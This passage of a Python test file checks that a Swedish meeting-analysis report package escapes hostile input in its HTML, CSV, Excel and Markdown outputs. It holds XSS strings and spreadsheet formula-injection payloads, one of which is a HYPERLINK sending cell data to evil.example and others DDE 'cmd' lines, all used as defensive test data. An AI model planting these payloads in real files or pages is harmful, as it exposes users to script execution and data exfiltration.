"""Tests for nlp_varmland.report: HTML, CSV, Excel, Markdown and a real headless Chromium."""
from __future__ import annotations

import csv
import json
import math
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from nlp_varmland.report import render_html, summary_markdown, write_bundle, write_excel, write_tables
from nlp_varmland.report.facts import score_level
from nlp_varmland.report.i18n import fmt_int, fmt_num, fmt_pct
from nlp_varmland.report.tables import REQUIRED

# The same check as ../shared/check_contract.py: report.html must open offline.
REMOTE = re.compile(r"""(?:src|href)\s*=\s*["'](https?:)?//[^"']+""")
LONG_WORD = "Värmland" * 1250  # 10,000 characters, no spaces
HOSTILE = [
    "<script>alert(1)</script> bussen går för sällan",
    '<img src=x onerror="alert(2)"> vi saknar sjuksköterskor',
    '=HYPERLINK("http://evil.example/?q="&A1,"klicka här")',
    "+cmd|' /C calc'!A0 kollektivtrafiken",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 färre bussar",
    "\tflik före text",
    LONG_WORD,
]


def hostile(analysis):
    """Put hostile text everywhere note text or names can reach the outputs."""
    notes = analysis.notes
    kept = notes.index[(notes["status"] == "kept") & (notes["theme_id"] == 0)][: len(HOSTILE)]
    for i, text in zip(kept, HOSTILE):
        notes.loc[i, "text"] = text
        notes.loc[i, "text_clean"] = text
    notes.loc[kept[0], "meeting"] = "<b>Möte</b> & <i>co</i>"
    analysis.themes.at[0, "examples"] = HOSTILE[:3]
    analysis.themes.at[1, "examples"] = [HOSTILE[3], HOSTILE[4], LONG_WORD]
    analysis.themes.at[2, "label"] = "psykisk-ohälsa-" * 40  # a label with no spaces
    analysis.themes.at[0, "label"] = "<script>alert('label')</script> – buss"
    analysis.themes.at[0, "keywords"] = ["=1+1", "<u>buss</u>"]
    analysis.themes.at[0, "goal_evidence"] = 'närmast: "<img src=x onerror=alert(3)>"'
    analysis.goals.loc[analysis.goals["goal_id"] == "bostader", "name"] = "<em>Bostäder</em>"
    analysis.messages.append("<script>alert('msg')</script>")
    return analysis


# ---------------------------------------------------------------------------- HTML


def test_html_is_self_contained(fake_analysis):
    html = render_html(fake_analysis)
    assert html.startswith("<!DOCTYPE html>")
    assert REMOTE.findall(html) == []
    assert "<link" not in html and "@import" not in html and "url(" not in html
    assert "default-src 'none'" in html  # CSP: even injected markup could load nothing
    assert html.count("<script") == 1  # only our optional filter script


def test_html_shows_every_section(fake_analysis):
    html = render_html(fake_analysis)
    for heading in ["Sammanfattning", "Täckning av strategins mål", "Teman", "Temakarta",
                    "Teman × insatsområden", "Återkommande utmaningar", "Utveckling över möten",
                    "Nya teman", "Datakvalitet", "Om körningen"]:
        assert f">{heading}</h" in html, heading
    assert html.count('class="gap-box"') == 4  # four sub-goals nobody raised
    assert html.count('<article class="theme" id="tema-') == 6
    assert "Ord ur målet i påståendena: buss, turtäthet" in html  # goal evidence is shown, in words
    assert "Bussen går för sällan från Ekshärad" in html  # a representative quote
    assert "klimatanpassning – skogsbrand – beredskap" in html.split('id="emerging"')[1]
    assert "3 påståenden passade inget tema" in html  # analysis.messages
    assert "intfloat/multilingual-e5-small" in html and "query: " in html  # provenance
    assert html.count('class="chart trend"') == 6


def test_html_escapes_hostile_notes(fake_analysis):
    html = render_html(hostile(fake_analysis))
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<img src=x" not in html and "&lt;img src=x onerror=" in html
    assert "<b>Möte</b>" not in html and "&lt;b&gt;Möte&lt;/b&gt; &amp; &lt;i&gt;co&lt;/i&gt;" in html
    assert "<em>Bostäder</em>" not in html and "&lt;em&gt;Bostäder&lt;/em&gt;" in html
    assert html.count("<script") == 1
    assert LONG_WORD in html and "overflow-wrap: anywhere" in html
    assert "=HYPERLINK(" in html  # shown as text, not neutralised away


def test_english_switch(fake_analysis):
    html = render_html(fake_analysis, lang="en")
    assert '<html lang="en">' in html
    for heading in ["Summary", "Coverage of the strategy goals", "Themes", "Theme map",
                    "Recurring challenges", "Emerging themes", "Data quality", "About this run"]:
        assert f">{heading}</h" in html, heading
    assert "Sammanfattning" not in html
    md = summary_markdown(fake_analysis, lang="en")
    assert md.startswith("# Summary") and "## Recurring challenges" in md


def test_unknown_language_is_refused(fake_analysis):
    with pytest.raises(ValueError, match="sv, en"):
        render_html(fake_analysis, lang="de")


def _zero_themes(a):
    a.notes["theme_id"] = -1
    a.notes["theme_label"] = ""
    a.themes = a.themes.iloc[0:0]
    a.recurring = a.recurring.iloc[0:0]
    a.trend = a.trend.iloc[0:0]
    a.messages = ["För få påståenden för att bilda teman."]
    return a


def _one_statement(a):
    a.notes = a.notes.iloc[[0]].copy()
    a.themes = a.themes.iloc[0:0]
    a.notes["theme_id"] = -1
    a.recurring = a.recurring.iloc[0:0]
    a.trend = a.trend.iloc[0:0]
    a.run["counts"] = {"rows": 1}
    return a


def _no_recurring(a):
    a.recurring = pd.DataFrame(columns=REQUIRED["recurring"])
    a.trend = pd.DataFrame(columns=["theme_id", "meeting", "date", "n_notes"])
    a.themes["recurring"] = False
    return a


def _nan_coordinates(a):
    a.notes["x"] = float("nan")
    a.notes["y"] = float("nan")
    return a


def _empty(a):
    a.notes = a.notes.iloc[0:0]
    a.themes = a.themes.iloc[0:0]
    a.goals = pd.DataFrame()
    a.recurring = pd.DataFrame()
    a.trend = pd.DataFrame()
    a.run = {}
    a.messages = []
    return a


DEGENERATE = {"zero_themes": _zero_themes, "one_statement": _one_statement,
              "no_recurring_no_trend": _no_recurring, "nan_coordinates": _nan_coordinates,
              "empty": _empty}


@pytest.mark.parametrize("lang", ["sv", "en"])
@pytest.mark.parametrize("case", sorted(DEGENERATE))
def test_degenerate_analyses_render(fake_analysis, tmp_path, case, lang):
    a = DEGENERATE[case](fake_analysis)
    html = render_html(a, lang=lang)
    assert "</html>" in html and REMOTE.findall(html) == []
    md = summary_markdown(a, lang=lang)
    assert md.startswith("# ")
    paths = write_bundle(a, tmp_path, lang=lang)
    assert all(p.is_file() for p in paths.values())
    if case in {"zero_themes", "one_statement"}:
        assert "Inga teman kunde bildas" in html or "No themes could be formed" in html
    if case == "zero_themes":
        assert "För få påståenden för att bilda teman." in html
    if case == "nan_coordinates":
        assert 'class="chart scatter"' not in html
        assert ("Ingen karta" in html) or ("No map" in html)
    if case == "no_recurring_no_trend":
        assert 'class="chart trend"' not in html


# ---------------------------------------------------------------------------- CSV


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        return list(reader.fieldnames or []), list(reader)


def _is_number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


def test_write_tables_columns_and_joins(fake_analysis, tmp_path):
    paths = write_tables(fake_analysis, tmp_path)
    assert sorted(paths) == ["goals.csv", "notes.csv", "recurring.csv", "themes.csv"]
    for name, cols in REQUIRED.items():
        header, rows = read_csv(tmp_path / f"{name}.csv")
        assert header[: len(cols)] == cols, name
    header, notes = read_csv(tmp_path / "notes.csv")
    assert len(notes) == len(fake_analysis.notes)  # every statement, also the ones not analysed
    assert "x" in header and "goal_evidence" in header  # extras follow the contract columns
    not_kept = [r for r in notes if r["status"] != "kept"]
    assert {r["theme_id"] for r in not_kept} == {"-1"} and {r["goal_id"] for r in not_kept} == {""}
    _, themes = read_csv(tmp_path / "themes.csv")
    assert themes[0]["keywords"] == "kollektivtrafik, landsbygd, buss, turtäthet"
    assert themes[0]["examples"].count(" | ") == 2
    assert themes[0]["meetings"] == "Arbetsmöte Karlstad; Arbetsmöte Torsby; Regional konferens Arvika"
    _, goals = read_csv(tmp_path / "goals.csv")
    assert {g["parent_id"] for g in goals if g["goal_id"] == "hoja-kompetensen"} == {""}


def test_csv_cells_are_neutralised(fake_analysis, tmp_path):
    write_tables(hostile(fake_analysis), tmp_path)
    seen = set()
    for name in REQUIRED:
        _, rows = read_csv(tmp_path / f"{name}.csv")
        for row in rows:
            for col, cell in row.items():
                if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}:
                    assert _is_number(cell), (name, col, cell)  # e.g. theme_id -1
                seen.add(cell)
    assert "'" + HOSTILE[2] in seen and "'" + HOSTILE[3] in seen and "'" + HOSTILE[4] in seen
    assert "'" + HOSTILE[5] in seen and "'" + HOSTILE[6] in seen
    assert "'=1+1, <u>buss</u>" in seen  # joined keywords start with "=" too


# ---------------------------------------------------------------------------- Excel


def test_excel_has_no_formulas_and_frozen_header(fake_analysis, tmp_path):
    from openpyxl import load_workbook

    path = write_excel(hostile(fake_analysis), tmp_path / "tables.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["notes", "themes", "goals", "recurring"]
    texts = set()
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:")
        assert all(c.font.bold for c in ws[1])
        header = [c.value for c in ws[1]]
        assert header[: len(REQUIRED[ws.title])] == REQUIRED[ws.title]
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
        assert all(8 <= (ws.column_dimensions[c].width or 0) <= 60
                   for c in ws.column_dimensions if ws.column_dimensions[c].width)
    assert "'" + HOSTILE[2] in texts  # prefixed with ' as in the CSVs, and a string cell
    notes = wb["notes"]
    assert notes.max_row == len(fake_analysis.notes) + 1
    ids = [c.value for c in notes["I"][1:]]  # theme_id is a number
    assert all(isinstance(v, int) for v in ids) and -1 in ids


# ---------------------------------------------------------------------------- Markdown


def test_summary_markdown(fake_analysis):
    md = summary_markdown(fake_analysis)
    for heading in ["# Sammanfattning", "## Största teman", "## Återkommande utmaningar",
                    "## Luckor: mål utan kopplade påståenden", "## Nya teman som strategin ännu inte namnger",
                    "## Datakvalitet"]:
        assert heading in md
    assert "51 påståenden från 3 möten gav 6 teman" in md
    assert "- Forskning och innovation (Stärka konkurrenskraften)" in md
    assert "**klimatanpassning – skogsbrand – beredskap**" in md.split("## Nya teman")[1]
    assert "dubbletter: 1" in md and "2 personuppgifter maskerades" in md
    # the share mapped to a goal is said once (the headline), the key points add the challenges
    assert md.count("kopplas till ett mål") == 1
    assert "av de 51 analyserade påståendena beskriver en utmaning." in md


def test_counts_agree_with_their_nouns_and_the_goal_score_reads_plainly(fake_analysis):
    """One meeting is "1 möte" (and the card "Möte", tester B10 saw "1 Möten"), two of two
    meetings "båda mötena"; the goal score is a "säkerhet" level with its statements first, the
    number only in the tooltip, never "z-poäng mot bakgrunden"."""
    notes, themes = fake_analysis.notes, fake_analysis.themes
    first = notes["meeting"].iloc[0]
    notes["meeting"], notes["date"] = first, notes["date"].iloc[0]
    themes["n_meetings"], themes["meetings"] = 1, [[first]] * len(themes)
    themes["recurring"] = False
    fake_analysis.recurring = fake_analysis.recurring.iloc[0:0]
    fake_analysis.trend = fake_analysis.trend[fake_analysis.trend["meeting"] == first]
    md, html = summary_markdown(fake_analysis), render_html(fake_analysis)
    assert "från 1 möte gav 6 teman" in md and "1 möten" not in md
    assert "1 möte" in html and "1 möten" not in html
    top = themes.sort_values("size", ascending=False).iloc[0]
    score = fmt_num(top["goal_score"], "sv")
    level = {"high": "hög", "medium": "medel", "low": "låg"}[score_level(top["goal_score"], 0.35)]
    support = f"{top['size']} av {top['size']} påståenden kopplas till målet, säkerhet {level}"
    for text in (md, html):
        assert "z-poäng" not in text and support in text and f"säkerhet {score}" not in text
    assert f'title="Poäng {score}:' in html  # the number: in the tooltip only
    assert '<div class="k">Möte</div>' in html and '<div class="k">Möten</div>' not in html
    assert "1 meeting gave" in summary_markdown(fake_analysis, lang="en")
    assert "z-score" not in render_html(fake_analysis, lang="en")
    # one meeting has no development over meetings to draw (tester B5 saw one bar per theme)
    assert 'class="chart trend"' not in html and "ett enda möte" in html


def test_themes_seen_at_every_meeting_say_so_in_words(fake_analysis):
    notes = fake_analysis.notes
    two = sorted(set(notes["meeting"]))[:2]
    notes["meeting"] = notes["meeting"].where(notes["meeting"].isin(two), two[0])
    themes = fake_analysis.themes
    themes["n_meetings"] = themes["meetings"].map(lambda m: len({x if x in two else two[0] for x in m}))
    rec = fake_analysis.recurring
    rec["n_meetings"] = 2
    fake_analysis.trend = fake_analysis.trend[fake_analysis.trend["meeting"].isin(two)]
    md, html = summary_markdown(fake_analysis), render_html(fake_analysis)
    assert "båda mötena" in md and "båda mötena" in html
    assert "alla 2 möten" not in md + html
    assert "both meetings" in summary_markdown(fake_analysis, lang="en")


def test_summary_markdown_escapes_note_text(fake_analysis):
    md = summary_markdown(hostile(fake_analysis))
    assert "<script>" not in md and "\\<script\\>" in md
    assert all(len(line) < 1200 for line in md.splitlines())  # long quotes are shortened


# ---------------------------------------------------------------------------- bundle


def test_write_bundle_writes_every_file(fake_analysis, tmp_path):
    paths = write_bundle(fake_analysis, tmp_path / "out")
    assert sorted(paths) == ["goals.csv", "notes.csv", "recurring.csv", "report.html", "review.xlsx",
                             "run.json", "summary.md", "tables.xlsx", "themes.csv"]
    run = json.loads(paths["run.json"].read_text(encoding="utf-8"))
    assert run["embedder"]["prefix"] == "query: " and run["seed"] == 42
    assert "Värmland" in paths["report.html"].read_text(encoding="utf-8")


def test_importing_report_stays_light():
    code = ("import sys, nlp_varmland.report; "
            "assert not {'jinja2', 'openpyxl'} & set(sys.modules), sorted(sys.modules)")
    subprocess.run([sys.executable, "-c", code], check=True, cwd=Path(__file__).parents[1])


# ---------------------------------------------------------------------------- theme map


def _circles(svg: str, cls: str) -> list[tuple[float, float, float]]:
    tags = re.findall(r'<circle cx="([-\d.]+)" cy="([-\d.]+)" r="([\d.]+)"[^>]*class="' + cls + '"', svg)
    return [(float(x), float(y), float(r)) for x, y, r in tags]


def test_theme_map_markers_never_cover_dots():
    """Themes packed tight (16 statements within a few pixels, as the layout gives a big
    theme): each theme's number marker sits beside its dots, not on them, dots do not sit on
    top of each other, and 20 themes get 20 colours, each named by its number on hover."""
    import random

    from nlp_varmland.report.charts import scatter_chart
    from nlp_varmland.report.facts import colour

    rng = random.Random(0)
    points, themes = [], []
    for k in range(20):
        cx, cy = (k % 5) * 10.0, (k // 5) * 10.0  # theme centres, a grid
        size = 16 if k == 0 else 6
        points += [(cx + rng.gauss(0, 0.05), cy + rng.gauss(0, 0.05), k) for _ in range(size)]
        themes.append({"theme_id": k, "label": f"tema{k}", "colour": colour(k), "rank": k + 1})
    points += [(25.0, 15.0, -1), (float("nan"), 1.0, 3)]
    svg = scatter_chart(points, themes, [f"påstående {i}" for i in range(len(points))])
    dots, marks = _circles(svg, "dot"), _circles(svg, "mark")
    assert len(dots) == len(points) - 1 and len(marks) == 20
    assert covered(dots, marks) == []
    biggest = [d for d, p in zip(dots, sorted(points[:-1], key=lambda p: p[2] >= 0)) if p[2] == 0]
    assert min(math.dist(a[:2], b[:2]) for i, a in enumerate(biggest) for b in biggest[i + 1:]) >= 0.9 * 4.5
    assert len({colour(k) for k in range(20)}) == 20
    assert "<title>1. tema0: påstående" in svg and "<title>20. tema19: påstående" in svg


# ---------------------------------------------------------------------------- Chromium
# Playwright drives the system Chromium (executable_path): no `playwright install` download.

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright  # the dev extra; a missing one must fail

    binary = CHROMIUM if os.path.exists(CHROMIUM) else shutil.which("chromium")
    if not binary:
        pytest.fail("headless Chromium is not installed: apt-get install -y chromium")
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=binary, args=CHROMIUM_ARGS)
        yield b
        b.close()


def open_report(browser, path: Path, width: int = 1280):
    """A page showing ``path``, and the list its console errors and page errors go to."""
    page = browser.new_page(viewport={"width": width, "height": 900})
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(path.as_uri())
    return page, errors


#: The dots of the theme map as drawn: centre on screen, theme (data-t) and hover text.
DOTS_JS = """[...document.querySelectorAll('svg.scatter circle.dot')].map(c => {
    const r = c.getBoundingClientRect();
    return [r.x + r.width / 2, r.y + r.height / 2, +c.dataset.t,
            c.querySelector('title').textContent,
            +getComputedStyle(c).fillOpacity];
})"""


#: Circles on screen (centre x, centre y, radius) of the map's dots and of its theme markers.
DOT_CIRCLES_JS = """[...document.querySelectorAll('svg.scatter circle.dot')].map(c => {
    const r = c.getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2, r.width / 2];
})"""
MARKS_JS = DOT_CIRCLES_JS.replace("circle.dot", "circle.mark")


def covered(dots, marks) -> list:
    """The dots that overlap a marker (circles as ``(x, y, r)``, any overlap counts)."""
    return [d for d in dots if any((d[0] - x) ** 2 + (d[1] - y) ** 2 < (d[2] + r) ** 2 for x, y, r in marks)]


def same_theme_nn(dots) -> float:
    """Share of themed dots whose nearest other dot on screen has the same theme."""
    themed = [d for d in dots if d[2] >= 0]
    hits = 0
    for i, (x, y, t, *_) in enumerate(themed):
        best = min((((x - u) ** 2 + (y - v) ** 2), s) for j, (u, v, s, *_) in enumerate(themed) if j != i)
        hits += best[1] == t
    return hits / len(themed)


def check_png(path: Path, width: int) -> None:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 50_000
    w, h = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    assert w == width and h > 3000  # full page, not the viewport


def test_report_in_headless_chromium(fake_analysis, browser, tmp_path):
    report = tmp_path / "report.html"
    report.write_text(render_html(hostile(fake_analysis)), encoding="utf-8")
    page, errors = open_report(browser, report)
    page.evaluate("document.querySelector('details.statements').open = true")
    info = page.evaluate("""({
        charts: document.querySelectorAll('svg.chart').length,
        coverage: document.querySelectorAll('svg.coverage rect').length,
        trend: document.querySelectorAll('svg.trend').length,
        mapWidth: document.querySelector('svg.scatter').getBoundingClientRect().width,
        scrollWidth: document.documentElement.scrollWidth,
        clientWidth: document.documentElement.clientWidth,
        injected: document.querySelectorAll('main img, main script').length,
        text: document.body.innerText.includes('<script>alert(1)</script>')
    })""")
    page.fill("#note-filter", "torsby")
    shown = page.locator("#note-table tbody tr:not([hidden])").count()
    page.screenshot(path=tmp_path / "report.png", full_page=True)
    kept = fake_analysis.notes[fake_analysis.notes["status"] == "kept"]
    assert errors == []
    assert info["charts"] >= 8 and info["coverage"] > 10 and info["trend"] == 6
    assert page.locator("svg.scatter circle.dot").count() == len(kept)
    assert info["mapWidth"] > 500
    assert page.locator("#note-filter").is_visible() and 0 < shown < len(kept)
    assert info["injected"] == 0 and info["text"]  # hostile markup shows as text
    assert info["scrollWidth"] <= info["clientWidth"]  # a 10,000-character word does not widen the page
    # tester B10: the statement not in Swedish can be read, a goal's number is in its tooltip
    assert page.locator("details.not-swedish ol.foreign li").first.is_visible()
    assert page.locator("article.theme .score").first.get_attribute("title").startswith("Poäng ")
    check_png(tmp_path / "report.png", 1280)
    page.close()


@pytest.fixture(scope="module")
def real_run(tmp_path_factory):
    """The sample meetings through the real pipeline (e5, themes, layout), written to disk."""
    import nlp_varmland as nv

    out = tmp_path_factory.mktemp("real-run")
    analysis = nv.analyze(str(Path(__file__).parents[1] / "corpora" / "meetings"), seed=0)
    analysis.save(out)
    return analysis, out


def test_theme_map_shows_themes_in_browser(real_run, browser, tmp_path):
    """What the map draws, measured in the DOM: a dot per statement at its own place, themes
    apart, hover text (redacted statement and theme), legend click highlights one theme."""
    analysis, out = real_run
    page, errors = open_report(browser, out / "report.html")
    dots = page.evaluate(DOTS_JS)
    kept = analysis.notes[analysis.notes["status"] == "kept"]
    assert errors == []
    assert len(dots) == min(len(kept), 4000)
    places = {(round(x), round(y)) for x, y, *_ in dots}  # whole pixels: what the eye can tell apart
    assert len(places) >= 0.9 * len(dots)
    assert same_theme_nn(dots) >= 0.7
    # themes visibly apart (tester B14): no theme's dot inside another theme's disc, no dot on another
    from nlp_varmland.layout import interleaved
    from tests.test_map import overlapping_pairs

    assert interleaved([d[:2] for d in dots], [d[2] for d in dots]) <= 0.02
    assert overlapping_pairs(page.evaluate(DOT_CIRCLES_JS)) <= 0.01 * len(dots)
    # hover: a dot's tooltip is its theme's number and label (as in the legend) and its redacted statement
    labels = dict(zip(analysis.themes["theme_id"], analysis.themes["label"]))
    texts = set(kept["text_clean"])
    for _x, _y, t, title, _ in dots[:20]:
        if t >= 0:
            name, _, text = title.partition(": ")
            rank, _, label = name.partition(". ")
            legend = page.locator(f".legend li[data-t='{t}']").inner_text()
            assert label == labels[t] and legend.startswith(f"{rank}. {label}")
            assert any(s.startswith(text[:100]) for s in texts)
    # ... shown at once in a box beside the dot (also on a tap: touch screens show no <title>)
    i = next(k for k, d in enumerate(dots) if d[2] >= 0)
    dot = page.locator("svg.scatter circle.dot").nth(i)
    dot.hover()
    tip = page.locator(".map-tip")
    assert tip.is_visible() and tip.inner_text() == dots[i][3]
    assert dot.locator("title").count() == 0  # lifted out: the browser's own tooltip does not repeat it
    box, view = tip.bounding_box(), page.viewport_size
    assert box is not None and view is not None and 0 <= box["x"] and box["x"] + box["width"] <= view["width"]
    page.mouse.move(0, 0)
    assert not tip.is_visible() and dot.locator("title").text_content() == dots[i][3]
    dot.click()
    assert tip.is_visible() and tip.inner_text() == dots[i][3]
    page.locator("h1").first.click()
    assert not tip.is_visible()
    # no dot is covered by a theme's number marker: every statement stays visible
    marks = page.evaluate(MARKS_JS)
    assert len(marks) == len(analysis.themes)
    assert covered(page.evaluate(DOT_CIRCLES_JS), marks) == []
    # legend click: the theme's dots stand out, the others fade; a second click clears it
    first = analysis.themes.sort_values("size", ascending=False).iloc[0]
    page.locator(f".legend li[data-t='{first.theme_id}']").click()
    lit = page.evaluate(DOTS_JS)
    on = [d for d in lit if d[2] == first.theme_id]
    off = [d for d in lit if d[2] != first.theme_id]
    assert len(on) == first["size"] and min(d[4] for d in on) == 1 and max(d[4] for d in off) < 0.2
    assert page.locator(".legend li[aria-pressed=true]").count() == 1
    page.locator(f".legend li[data-t='{first.theme_id}']").click()
    assert min(d[4] for d in page.evaluate(DOTS_JS)) > 0.5
    # themes under their groups, each with a summary; outliers reported with their share
    groups = analysis.themes["group_id"].nunique()
    assert page.locator("section.tgroup").count() == groups and 1 < groups < len(analysis.themes)
    sizes = analysis.themes.groupby("group_id").size()
    headers = page.locator("section.tgroup h3 .meta").all_inner_texts()  # "3 teman, 40 påståenden"
    assert len(headers) == int((sizes > 1).sum())  # a theme alone needs no group heading over it
    # ... and a group's frame ends where the group does (B16: themes after a group looked part of it)
    assert page.locator("section.tgroup.multi").count() == int((sizes > 1).sum())
    assert page.locator("section.tgroup.multi h3").count() == int((sizes > 1).sum())
    for header in headers:
        k = int(header.strip("· ").split()[0])
        assert k > 1 and k in set(sizes) and header.strip("· ").startswith(f"{k} teman,")
    assert page.locator("article.theme p.tsummary").count() >= len(analysis.themes)
    n_out = int((kept["theme_id"] == -1).sum())
    assert page.locator("ol.outliers li").count() == n_out
    assert f"{n_out} påståenden" in page.locator("#outliers + p").inner_text()
    page.screenshot(path=tmp_path / "real.png", full_page=True)
    check_png(tmp_path / "real.png", 1280)
    page.close()


def test_most_frequent_corrections_name_the_field_and_the_goals(fake_analysis):
    """ "utmaning: nej → ja (5)", "mål: <namn> → <namn> (3)": the field first and goal names,
    not ids (run.json keeps the ids)."""
    goals = fake_analysis.goals.set_index("goal_id")["name"]
    a, b = "bostader", "kompetensforsorjning"
    assert {a, b} <= set(goals.index)
    fake_analysis.run["corrections"] = {
        "reviewed": 12, "corrected": 8,
        "fields": {"is_challenge": {"n": 12, "agreement": 0.6, "kappa": 0.2, "corrected": 5}},
        "top": [{"field": "is_challenge", "from": "nej", "to": "ja", "n": 5, "text": "nej → ja (5)"},
                {"field": "goal_id", "from": a, "to": b, "n": 3, "text": f"{a} → {b} (3)"},
                {"field": "goal_id", "from": b, "to": "(inget mål)", "n": 1, "text": f"{b} → (inget mål) (1)"}]}
    html, md = render_html(fake_analysis), summary_markdown(fake_analysis)
    for text in (html, md):
        assert "utmaning: nej → ja (5)" in text
        assert f"mål: {goals[a]} → {goals[b]} (3)" in text.replace("\\", "")
        assert f"mål: {goals[b]} → (inget mål) (1)" in text
        assert f"{a} → {b}" not in text
    assert "challenge: no → yes (5)" in render_html(fake_analysis, lang="en")


def test_report_and_summary_say_what_the_review_taught(fake_analysis):
    """Each way judgements can teach gets one line: used, or refused by its guard, with what it
    fixed and broke on the judgements themselves; the sentence they share is said once; nothing
    without a teaching record."""
    fake_analysis.run["corrections"] = {
        "reviewed": 12, "corrected": 3,
        "fields": {"goal_id": {"n": 12, "agreement": 0.75, "kappa": 0.6, "corrected": 3}},
        "teaching": {"goal_examples": {"strength": 1.0, "fixed": 5, "broken": 1, "judgements": 12},
                     "goal_id": {"strength": 0.0, "fixed": 1, "broken": 2, "judgements": 12}}}
    html, md = render_html(fake_analysis), summary_markdown(fake_analysis)
    for text in (html, md):
        assert "Vad granskningen lärde verktyget" in text
        assert "Målkopplingen, med de granskade påståendena som exempel: används (rättade 5, försämrade 1)" in text
        assert "Målkopplingen, efter närmaste granskade påstående: används inte den här gången" in text
        assert "Utmaningar, efter" not in text
        assert text.count("Era rättelser gäller alltid") == 1
    assert "What the review taught the tool" in render_html(fake_analysis, lang="en")
    del fake_analysis.run["corrections"]["teaching"]
    assert "Vad granskningen lärde" not in render_html(fake_analysis)


def _taught_run(fake_analysis, *, review: bool = True):
    """Tester B10's run: every guard refused, the forward rule moved one statement's goal."""
    guards = {"goal_examples": {"strength": 0.0, "fixed": 0, "broken": 0, "judgements": 22},
              "goal_id": {"strength": 0.0, "fixed": 0, "broken": 0, "judgements": 22},
              "goal_forward": {"moved": 1, "judgements": 16},
              "is_challenge": {"strength": 0.0, "fixed": 0, "broken": 0, "judgements": 22},
              "challenge_forward": {"moved": 0, "judgements": 16}}
    if review:
        fake_analysis.run["corrections"] = {
            "reviewed": 22, "corrected": 17, "teaching": guards,
            "fields": {"goal_id": {"n": 22, "agreement": 0.55, "kappa": 0.51, "corrected": 10}}}
    # run.json lists the meetings by name; the report names them by date (B10: "maj, mars och september")
    meetings = sorted(fake_analysis.notes["meeting"].unique(), reverse=True)
    fake_analysis.run["teaching"] = {"judgements": 22, "by_field": {"goal_id": 22, "is_challenge": 22},
                                     "meetings": {m: 7 for m in meetings},
                                     "changed": {"goal_id": 3, "is_challenge": 0}, "guards": guards}
    return fake_analysis


def test_what_the_review_taught_names_every_change_and_agrees_with_the_provenance(fake_analysis):
    """Tester B10: every mechanism said "används inte … rättade 0" while "Om körningen" said a
    goal changed (the forward rule did it). Now the forward rules are listed with what they
    changed, the rest of the changed statements is accounted for (the pull of near-repeats, every
    guard refused), and the meetings learned from come in date order."""
    from nlp_varmland.report.facts import meetings as dated

    a = _taught_run(fake_analysis)
    by_date = [m["name"] for m in dated(a)]
    html, md = render_html(a), summary_markdown(a)
    taught = html.split('id="taught"')[1].split("</ul>")[0]
    prov = html.split('id="provenance"')[1]
    assert "3 påståendens mål ändrades" in prov and "3 påståendens mål ändrades" in md
    for text in (taught, md):
        assert "Målkopplingen framåt, för påståenden från andra möten än de granskade: 1 påståendes mål ändrades." \
            in text
        assert "Utmaningar framåt, för påståenden från andra möten än de granskade: inget påstående ändrades." in text
        assert "Upprepningar: 2 påståenden som säger nästan samma sak som ett granskat fick dess mål." in text
        assert text.count("för lite för att lita på") == 0 and text.count("vart och ett utan sig självt") == 1
    assert f"från {by_date[0]}, {by_date[1]} och {by_date[2]};" in prov
    assert f"från {by_date[0]}, {by_date[1]} och {by_date[2]};" in md
    assert "Goal mapping forward" in render_html(a, lang="en")
    # a run that only learned from the store (no review of its own) still says what it learned
    del a.run["corrections"]
    html = render_html(a)
    assert '<h2 id="taught">Vad granskningen lärde verktyget</h2>' in html
    assert "1 påståendes mål ändrades" in html.split('id="taught"')[1]
    assert "## Vad granskningen lärde verktyget" in summary_markdown(a)


def test_provenance_lists_parameters_as_readable_leaves(fake_analysis):
    """Tester B6: the parameters were a raw Python dict dump that began with an empty "n_themes="."""
    import re

    fake_analysis.run["parameters"] = {"n_themes": None, "themes": {"k": 11, "resolution": 2.04},
                                       "clean": {"redact": ["emails", "names"]}}
    html = render_html(fake_analysis)
    params = re.findall(r"<code>([^<]*=[^<]*)</code>", html.split('id="provenance"')[1])
    assert "themes.k=11" in params and "clean.redact=emails, names" in params
    assert not any(p.startswith("n_themes=") or "{" in p for p in params)


def test_summary_markdown_counts_the_statements_in_no_theme(fake_analysis):
    n = int((fake_analysis.notes.loc[fake_analysis.notes["status"] == "kept", "theme_id"] < 0).sum())
    md = summary_markdown(fake_analysis)
    assert n > 0 and f"{n} påståenden (" in md and "passade inget tema" in md


# ---------------------------------------------------------------------------- a small meeting, in Swedish

SMALL_MEETING = [  # tester B10's 14-note meeting, and an English note (status not_swedish)
    "vi som bor i Finnskogen har fortfarande ingen buss alls",
    "Elbrist stoppar nya etableringar i Karlstad också",
    "Strömavbrott vid varje storm, luftledningarna i skogen måste grävas ner",
    "Säsongen är för kort, restaurangerna stänger redan i augusti",
    "Allemansrätten missbrukas, mycket nedskräpning vid sjöarna i sommar",
    "Kompetensförsörjning är den största utmaningen för småföretagen",
    "Vi utbildar folk som sedan flyttar till Norge för högre löner",
    "Gemensam bokningssida för länets aktiviteter behövs",
    "Kompetensen finns men rekryteringen i kommunen är för långsam",
    "Självskadebeteende ökar bland flickor i högstadiet",
    "Bussen från Torsby går för sällan på kvällarna",
    "Bostadsbrist gör att nyanställda inte hittar boende",
    "Fler laddstolpar behövs vid turistmålen längs E16",
